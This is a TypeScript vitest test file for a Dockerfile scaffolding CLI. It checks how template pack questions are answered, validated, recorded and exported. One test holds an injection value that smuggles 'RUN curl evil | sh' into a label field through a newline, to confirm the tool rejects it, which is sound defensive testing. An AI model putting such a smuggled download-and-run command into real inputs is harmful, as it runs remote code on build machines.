// Pack questions (issue 8): a template pack asks for values its templates use as
// {{values.<name>}}; they come from --value, a preset's values:, the record, a prompt, then the
// question's default; each is typed and checked, recorded in .docker-scaffold.yml, and a
// missing or bad one is exit 2 with nothing written.
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { parse as parseYaml } from "yaml";
import { runInit } from "../../src/init/run-init.js";
import type { ConfirmQuestion, InputQuestion, Prompter, SelectQuestion } from "../../src/prompts/prompter.js";
import { runCliCaptured } from "../helpers/cli.js";
import { tempDir, writeTree } from "../helpers/tmp.js";

const QUESTIONS = `questions:
  - name: team
    message: Owning team
    type: string
    pattern: "[a-z][a-z-]*"
  - name: tier
    message: Service tier
    type: choice
    choices: [gold, silver]
    default: silver
  - name: replicas
    message: Replicas
    type: number
    default: 2
  - name: audited
    message: Audited?
    type: boolean
    default: false
`;
const LABELS = `{{> super}}
LABEL com.acme.team="{{values.team}}" com.acme.tier="{{values.tier}}" com.acme.replicas="{{values.replicas}}" com.acme.audited="{{values.audited}}"
`;

/** A repository with a pack at ./pack asking four questions, used by its labels partial. */
function repoWithPack(extraManifest = ""): string {
  const cwd = tempDir();
  writeTree(cwd, {
    "pack/pack.yaml": `apiVersion: docker-scaffold/v1\nkind: TemplatePack\nname: team\nversion: 1.0.0\n${QUESTIONS}${extraManifest}`,
    "pack/templates/_partials/labels.hbs": LABELS,
  });
  return cwd;
}

const init = (cwd: string, ...args: string[]) => runCliCaptured(["init", "--yes", "--no-detect", "--preset", "python-fastapi", "--template", "./pack", ...args], cwd);

describe("pack questions", () => {
  beforeEach(() => {
    vi.stubEnv("DOCKER_SCAFFOLD_CACHE_DIR", tempDir("ds-cache-"));
    vi.stubEnv("DOCKER_SCAFFOLD_CONFIG", join(tempDir(), "none.yaml"));
  });
  afterEach(() => vi.unstubAllEnvs());

  it("--value answers a question, typed; defaults fill the rest; the values are recorded and a re-run reuses them", async () => {
    const cwd = repoWithPack();
    const run = await init(cwd, "--value", "team=payments", "--value", "replicas=3");
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    const dockerfile = readFileSync(join(cwd, "Dockerfile"), "utf8");
    expect(dockerfile).toContain('LABEL com.acme.team="payments" com.acme.tier="silver" com.acme.replicas="3" com.acme.audited="false"');
    const recorded = parseYaml(readFileSync(join(cwd, ".docker-scaffold.yml"), "utf8")) as { values: Record<string, unknown> };
    expect(recorded.values).toEqual({ team: "payments", tier: "silver", replicas: 3, audited: false });
    // A re-run without --value: the recorded values, nothing asked, nothing changed.
    const again = await runCliCaptured(["init", "--yes", "--no-detect"], cwd);
    expect(again.stderr).toBe("");
    expect(again.code).toBe(0);
    expect(readFileSync(join(cwd, "Dockerfile"), "utf8")).toBe(dockerfile);
    // update --value changes one, keeps the others.
    const changed = await runCliCaptured(["update", "--value", "tier=gold", "--allow-dirty"], cwd);
    expect(changed.stderr).toBe("");
    expect(changed.code).toBe(0);
    expect(readFileSync(join(cwd, "Dockerfile"), "utf8")).toContain('com.acme.team="payments" com.acme.tier="gold" com.acme.replicas="3"');
  });

  it("a question with no answer and no default is exit 2 naming the flag, nothing written", async () => {
    const cwd = repoWithPack();
    const run = await init(cwd);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("team: Owning team (asked by template pack team@1.0.0 (./pack))");
    expect(run.stderr).toContain("fix: --value team=<string>");
    expect(existsSync(join(cwd, "Dockerfile"))).toBe(false);
  });

  it.each([
    [["--value", "team=Payments"], 'team (--value): "Payments" does not match [a-z][a-z-]*'],
    [["--value", "team=ok", "--value", "tier=bronze"], 'tier (--value): "bronze" is not one of gold, silver'],
    [["--value", "team=ok", "--value", "replicas=many"], 'replicas (--value): "many" is not a number'],
    [["--value", "team=ok", "--value", "audited=yes"], 'audited (--value): "yes" is not true or false'],
    [["--value", "team=ok", "--value", "colour=blue"], "colour (--value): no template pack asks for it"],
    [["--value", "team"], '--value "team": expected name=value'],
  ])("a bad value %j is exit 2 naming it, nothing written", async (args, message) => {
    const cwd = repoWithPack();
    const run = await init(cwd, ...args);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(message);
    expect(existsSync(join(cwd, "Dockerfile"))).toBe(false);
  });

  it("a value that would break out of its line is refused, even without a pattern", async () => {
    const cwd = tempDir();
    writeTree(cwd, {
      "pack/pack.yaml": "apiVersion: docker-scaffold/v1\nkind: TemplatePack\nname: team\nversion: 1.0.0\nquestions:\n  - {name: note, message: Note, type: string}\n",
      "pack/templates/_partials/labels.hbs": '{{> super}}\nLABEL note="{{values.note}}"\n',
    });
    const run = await init(cwd, "--value", "note=a\nRUN curl evil | sh");
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("contains a newline or another control character");
    expect(existsSync(join(cwd, "Dockerfile"))).toBe(false);
  });

  it.each([
    ["  - {name: t, message: T, type: choice}\n", "questions.t: type choice needs choices"],
    ["  - {name: t, message: T, type: number, default: ten}\n", 'questions.t: default "ten" is not a number'],
    ["  - {name: t, message: T, type: string, pattern: \"[a-\"}\n", "questions.t: pattern does not compile"],
    ["  - {name: t, message: T, type: string}\n  - {name: t, message: U, type: string}\n", "questions.t: asked twice"],
    ["  - {name: Bad-Name, message: T, type: string}\n", "questions.0.name"],
  ])("a malformed question is exit 2 naming pack.yaml: %j", async (question, message) => {
    const cwd = tempDir();
    writeTree(cwd, { "pack/pack.yaml": `apiVersion: docker-scaffold/v1\nkind: TemplatePack\nname: team\nversion: 1.0.0\nquestions:\n${question}` });
    const run = await init(cwd);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("pack/pack.yaml");
    expect(run.stderr).toContain(message);
  });

  it("a preset's values answer the questions; --value ranks above them", async () => {
    const cwd = repoWithPack();
    writeTree(cwd, {
      "preset.yaml": "apiVersion: docker-scaffold/v1\nkind: Preset\nname: acme\nversion: 1.0.0\nextends: [builtin:python-fastapi]\ntemplates: [./pack]\nvalues:\n  team: platform\n  tier: gold\n",
    });
    const run = await runCliCaptured(["init", "--yes", "--no-detect", "--preset", "./preset.yaml", "--value", "tier=silver"], cwd);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(readFileSync(join(cwd, "Dockerfile"), "utf8")).toContain('com.acme.team="platform" com.acme.tier="silver"');
  });

  it("interactively, each question is asked with its type's prompt and default", async () => {
    const cwd = repoWithPack();
    const asked: string[] = [];
    const questions = new Map<string, SelectQuestion<string> | InputQuestion | ConfirmQuestion>();
    // Every other question takes its default; the pack's are answered here.
    const prompter: Prompter = {
      async select(q) {
        asked.push(q.name);
        questions.set(q.name, q as unknown as SelectQuestion<string>);
        return (q.name === "values.tier" ? "gold" : (q.default ?? q.choices[0]!.value)) as never;
      },
      async input(q) {
        asked.push(q.name);
        questions.set(q.name, q);
        if (q.name === "values.team") {
          expect(q.validate!("Not Valid")).toContain("does not match");
          return "search";
        }
        return q.default ?? "";
      },
      async confirm(q) {
        asked.push(q.name);
        questions.set(q.name, q);
        return q.name === "values.audited" ? true : (q.default ?? true);
      },
      note() {},
    };
    await runInit({ dir: cwd, cwd, prompter, preset: "python-fastapi", templates: ["./pack"], detect: false });
    expect(asked.filter((n) => n.startsWith("values."))).toEqual(["values.team", "values.tier", "values.replicas", "values.audited"]);
    expect((questions.get("values.tier") as SelectQuestion<string>).default).toBe("silver");
    expect((questions.get("values.replicas") as InputQuestion).default).toBe("2");
    expect(readFileSync(join(cwd, "Dockerfile"), "utf8")).toContain('com.acme.team="search" com.acme.tier="gold" com.acme.replicas="2" com.acme.audited="true"');
  });
});

describe("presets export with pack questions", () => {
  beforeEach(() => {
    vi.stubEnv("DOCKER_SCAFFOLD_CACHE_DIR", tempDir("ds-cache-"));
    vi.stubEnv("DOCKER_SCAFFOLD_CONFIG", join(tempDir(), "none.yaml"));
  });
  afterEach(() => vi.unstubAllEnvs());

  it("exports the values with the answers, and the exported preset reproduces the repository", async () => {
    const cwd = repoWithPack();
    expect((await init(cwd, "--value", "team=payments", "--value", "tier=gold")).code).toBe(0);
    const exported = await runCliCaptured(["presets", "export", ".", "-o", "team.yaml", "--name", "team-api"], cwd);
    expect(exported.stderr).toBe("");
    expect(exported.code).toBe(0);
    const preset = parseYaml(readFileSync(join(cwd, "team.yaml"), "utf8")) as { values: Record<string, unknown>; templates: string[] };
    expect(preset.values).toEqual({ team: "payments", tier: "gold", replicas: 2, audited: false });
    expect(preset.templates).toEqual(["./pack"]);
    const other = join(cwd, "other");
    mkdirSync(other);
    const run = await runCliCaptured(["init", "other", "--yes", "--no-detect", "--preset", "./team.yaml"], cwd);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(readFileSync(join(other, "Dockerfile"), "utf8")).toContain('com.acme.team="payments" com.acme.tier="gold"');
  });
});
